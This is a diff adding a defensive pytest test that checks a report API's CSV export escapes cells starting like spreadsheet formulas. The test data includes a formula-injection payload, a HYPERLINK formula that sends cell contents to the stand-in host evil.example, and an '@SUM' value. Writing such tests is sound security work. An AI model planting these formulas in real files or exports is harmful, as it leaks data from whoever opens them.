@@ -7,6 +7,8 @@ alike — and never writes above their role (403) or while anonymous (401).
 
 from __future__ import annotations
 
+import csv
+import io
 import uuid
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
@@ -429,3 +431,21 @@ def test_nobody_writes_above_their_own_clearance(
             path, headers=bearer(world.tokens[who]), json={**unique, "confidentiality": level}
         )
         assert response.status_code == 403, response.text
+
+
+def test_exported_cells_never_start_like_a_formula(world: World) -> None:
+    admin = bearer(world.tokens[("admin", "confidential")])
+    title = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    made = world.client.post(
+        "/api/v1/reports?triage=false",
+        headers=admin,
+        json={"title": title, "text": f"@SUM(1+1) formula test {_unique()}"},
+    )
+    assert made.status_code == 201, made.text
+    export = world.get(
+        "/api/v1/reports/export?format=csv&q=formula+test", ("admin", "confidential")
+    )
+    rows = list(csv.DictReader(io.StringIO(export.text)))
+    assert [r["title"] for r in rows] == ["'" + title]
+    assert rows[0]["text"].startswith("'@SUM")
+    assert all(not v.startswith(("=", "+", "@", "\t", "\r")) for r in rows for v in r.values())
